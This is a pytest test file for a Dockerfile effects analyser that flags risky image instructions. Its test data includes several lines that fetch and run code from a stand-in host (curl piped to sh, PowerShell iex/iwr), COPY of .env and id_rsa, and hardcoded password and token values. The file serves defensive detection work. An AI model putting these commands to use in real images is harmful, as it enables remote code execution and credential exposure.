import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.guard.effects.analyse import analyse
from freehold.guard.syntax import Language
from tests.guard.effects.windows_cases import rules

EFFECTS = {
    "FROM a\nRUN curl http://h.example/x | sh": "execute-host",
    "FROM a\nRUN true && \\\n  # why\n  curl http://h.example/x | sh": "execute-host",
    "FROM a\nRUN <<EOF\ncurl http://h.example/x | sh\nEOF\nUSER a": "execute-host",
    'FROM a\nCMD ["sh", "-c", "curl http://h.example/x | sh"]': "execute-host",
    "FROM a\nENTRYPOINT curl http://h.example/x | sh": "execute-host",
    "FROM a\nONBUILD RUN curl http://h.example/x | sh": "execute-host",
    "FROM a\nHEALTHCHECK --interval=5s CMD curl http://h.example/x | sh": "execute-host",
    "# escape=`\nFROM a\nSHELL [\"powershell\"]\nRUN iex `\n (iwr http://h.example)": "execute-host",
    "FROM a\nADD https://h.example/x.tgz /x": "download-host",
    "FROM a\nCOPY .env id_rsa /app/": "read-credential",
    "FROM a\nENV DB_PASSWORD=hunter2": "write-credential",
    "FROM a\nENV API_TOKEN abc": "write-credential",
    "FROM a\nRUN --security=insecure true": "escalate-system",
    "FROM a\nUSER root": "run-system",
    "FROM a\nRUN apt-get install -y curl": "install-workspace",
    "FROM a\nRUN pip install x": "install-workspace",
}  # fmt: skip


@pytest.mark.parametrize(("text", "rule"), EFFECTS.items())
def test_an_image_does_what_its_instructions_do(text: str, rule: str) -> None:
    assert rule in rules(text, Language.DOCKERFILE)


HARMLESS = [
    "FROM a\nWORKDIR /app\nCOPY . .\nRUN rm -rf /var/lib/apt/lists/* && useradd -m app && chown -R app /app\nUSER app",
    'FROM a\nCMD ["python", "app.py"]',
    "FROM a AS b\nUSER root\nRUN chmod +x /usr/bin/x\nFROM c\nCOPY --from=b /x /x\nUSER 1000",
    "FROM a\nARG TOKEN\nENV API_TOKEN=$TOKEN PATH=/x:$PATH\nEXPOSE 80",
    "",
    "# only a comment",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_stays_in_the_image_is_the_image_s(text: str) -> None:
    assert not rules(text, Language.DOCKERFILE) - {"run-nothing"}


def test_more_than_is_read_is_unknown() -> None:
    assert "unknown-nothing" in rules("RUN a\n" * 600, Language.DOCKERFILE)
    assert rules("RUN a\n" * 20_000, Language.DOCKERFILE) == {"unknown-nothing"}


@given(st.text(alphabet="FROMUNADENVSHL <->=\\`\n[]\"'#$acd", max_size=200))
def test_any_text_has_an_answer(text: str) -> None:
    analyse(text, Language.DOCKERFILE)
